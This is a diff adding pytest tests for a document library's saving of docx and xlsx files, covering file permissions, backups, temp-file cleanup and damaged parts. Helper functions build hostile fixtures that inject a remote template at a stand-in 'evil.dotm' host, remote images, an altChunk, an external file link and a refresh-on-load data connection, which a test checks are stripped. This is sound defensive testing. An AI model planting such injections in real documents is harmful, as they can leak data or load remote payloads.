@@ -122,3 +122,174 @@ def test_unknown_target_format_is_refused(tmp_path, opened):
     with pytest.raises(FormWriteError) as info:
         save_document(doc, tmp_path / "out.odt")
     assert "不支持" in info.value.message
+
+
+def test_new_files_get_the_permissions_the_umask_gives(tmp_path, opened):
+    _, doc = opened
+    old = os.umask(0o022)
+    try:
+        for name in ("新.docx", "新.xlsx", "新.perf.json"):
+            save_document(doc, tmp_path / name)
+            assert (tmp_path / name).stat().st_mode & 0o777 == 0o644, name
+        os.umask(0o077)
+        save_document(doc, tmp_path / "私.docx")
+        assert (tmp_path / "私.docx").stat().st_mode & 0o777 == 0o600
+    finally:
+        os.umask(old)
+
+
+def test_existing_file_keeps_its_permissions(opened):
+    path, doc = opened
+    os.chmod(path, 0o640)
+    doc.projects[0].goals = "改"
+    save_document(doc, path)
+    assert path.stat().st_mode & 0o777 == 0o640
+
+
+def test_truncated_backup_is_replaced_by_the_next_save(opened):
+    path, doc = opened
+    original = path.read_bytes()
+    bak = backup_path(path)
+    bak.write_bytes(original[: len(original) // 3])  # a full disk stopped the copy part-way
+    doc.projects[0].goals = "已修改"
+    save_document(doc, path, backup=True)
+    assert bak.read_bytes() == original
+    assert load_document(bak).projects[0].goals != "已修改"
+    _no_temp_left(path.parent)
+
+
+def test_backup_cut_short_is_never_kept(opened, monkeypatch):
+    path, doc = opened
+    original = path.read_bytes()
+
+    def short_copy(src, dst, *args, **kwargs):
+        Path(dst).write_bytes(Path(src).read_bytes()[:4000])
+        return dst
+
+    monkeypatch.setattr(shutil, "copyfile", short_copy)
+    doc.projects[0].goals = "已修改"
+    with pytest.raises(FormWriteError) as info:
+        save_document(doc, path, backup=True)
+    assert "备份" in info.value.message
+    assert not backup_path(path).exists()
+    assert path.read_bytes() == original  # nothing saved without the backup
+    _no_temp_left(path.parent)
+
+
+def _stale(folder: Path, name: str, age: float = 3600) -> Path:
+    p = folder / name
+    p.write_bytes(b"half a save")
+    t = p.stat().st_mtime - age
+    os.utime(p, (t, t))
+    return p
+
+
+def test_stale_temporary_files_are_removed_on_open_and_save(opened):
+    path, doc = opened
+    folder = path.parent
+    mine = [_stale(folder, ".~表.ab12cd_3.docx.tmp"), _stale(folder, ".~表.zz99yy00.docx.tmp")]
+    fresh = _stale(folder, ".~表.fresh123.docx.tmp", age=0)  # a save in progress elsewhere
+    others = [_stale(folder, ".~表.ab12cd_3.xlsx.tmp"), _stale(folder, ".~别的.ab12cd_3.docx.tmp"),
+              _stale(folder, "~$表.docx"), _stale(folder, ".~表.docx.tmp")]
+    load_document(path)
+    assert not any(p.exists() for p in mine)
+    assert fresh.exists() and all(p.exists() for p in others)
+    again = _stale(folder, ".~表.qq11ww22.docx.tmp")
+    doc.projects[0].goals = "改"
+    save_document(doc, path)
+    assert not again.exists() and all(p.exists() for p in others)
+
+
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _repack(src: Path, dst: Path, change) -> Path:
+    import zipfile
+
+    with zipfile.ZipFile(src) as zf:
+        parts = {i.filename: zf.read(i) for i in zf.infolist()}
+    change(parts)
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            out.writestr(name, data)
+    return dst
+
+
+def _add_rel(parts: dict, rels: str, rid: str, kind: str, target: str, external: bool) -> None:
+    mode = ' TargetMode="External"' if external else ""
+    rel = f'<Relationship Id="{rid}" Type="{_REL}/{kind}" Target="{target}"{mode}/>'.encode()
+    if rels not in parts:
+        parts[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
+                       b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    parts[rels] = parts[rels].replace(b"</Relationships>", rel + b"</Relationships>")
+
+
+def _hostile_docx(parts: dict) -> None:
+    _add_rel(parts, "word/_rels/settings.xml.rels", "rIdT", "attachedTemplate",
+             "http://example.invalid/evil.dotm", True)
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", f'<w:attachedTemplate xmlns:r="{_REL}" r:id="rIdT"/></w:settings>'.encode())
+    _add_rel(parts, "word/_rels/document.xml.rels", "rIdA", "aFChunk", "chunk.htm", False)
+    _add_rel(parts, "word/_rels/document.xml.rels", "rIdL", "image", "http://example.invalid/p.png", True)
+    _add_rel(parts, "word/_rels/document.xml.rels", "rIdH", "hyperlink", "http://example.invalid/", True)
+    parts["word/chunk.htm"] = b"<html><body><img src='http://example.invalid/x.png'></body></html>"
+    parts["word/document.xml"] = parts["word/document.xml"].replace(
+        b"</w:body>", f'<w:altChunk xmlns:r="{_REL}" r:id="rIdA"/></w:body>'.encode(), 1)
+
+
+def _hostile_xlsx(parts: dict) -> None:
+    _add_rel(parts, "xl/_rels/workbook.xml.rels", "rIdX", "externalLink", "externalLinks/externalLink1.xml", False)
+    _add_rel(parts, "xl/_rels/workbook.xml.rels", "rIdC", "connections", "connections.xml", False)
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+        b'xmlns:r="' + _REL.encode() + b'"><externalBook r:id="rId1"/></externalLink>')
+    _add_rel(parts, "xl/externalLinks/_rels/externalLink1.xml.rels", "rId1", "externalLinkPath",
+             "file:///C:/secret/other.xlsx", True)
+    parts["xl/connections.xml"] = (
+        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+        b'name="q" type="5" refreshOnLoad="1"><dbPr connection="Provider=x;Data Source=http://example.invalid/"'
+        b' command="select 1"/></connection></connections>')
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"<definedNames/>", f'<externalReferences><externalReference xmlns:r="{_REL}" r:id="rIdX"/>'
+                            f'</externalReferences><definedNames/>'.encode())
+
+
+@pytest.mark.parametrize("kind", ["docx", "xlsx"])
+def test_external_references_are_dropped_from_what_is_written(tmp_path, kind):
+    import zipfile
+
+    src = PUBLIC_FIXTURES / ("pingxiang_2020_part.docx" if kind == "docx" else "leting_2024.xlsx")
+    hostile = _repack(src, tmp_path / f"外部.{kind}", _hostile_docx if kind == "docx" else _hostile_xlsx)
+    doc = load_document(hostile)
+    out = tmp_path / f"转换.{kind}"
+    report = save_document(doc, out)
+    assert any("外部引用" in line for line in report)
+    with zipfile.ZipFile(out) as zf:
+        rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
+        names = zf.namelist()
+        body = b"".join(zf.read(n) for n in names if n.endswith(".xml"))
+    for word in (b"attachedTemplate", b"aFChunk", b"externalLink", b"connections", b"example.invalid/p.png",
+                 b"secret"):
+        assert word not in rels, word
+    assert not any(n.startswith(("xl/externalLinks", "xl/connections")) or n.endswith("chunk.htm") for n in names)
+    assert b"altChunk" not in body and b"externalReference" not in body
+    if kind == "docx":
+        assert b"example.invalid/" in rels  # a hyperlink is fetched only when clicked: kept
+    assert dump_document(load_document(out)) == dump_document(doc)
+    plain = tmp_path / f"普通.{kind}"
+    assert not any("外部引用" in line for line in save_document(load_document(src), plain))
+
+
+def test_damaged_unused_part_does_not_stop_a_save(tmp_path):
+    from tests.fuzz.mutate import break_member
+
+    path = tmp_path / "坏.docx"
+    path.write_bytes(break_member((PUBLIC_FIXTURES / "pingxiang_2020_part.docx").read_bytes(),
+                                  "docProps/thumbnail.jpeg"))
+    doc = load_document(path)
+    doc.projects[0].goals = "改"
+    report = save_document(doc, path)
+    assert any("损坏" in line for line in report)
+    again = load_document(path)
+    assert again.projects[0].goals == "改"
+    assert dump_document(again)["projects"] == dump_document(doc)["projects"]
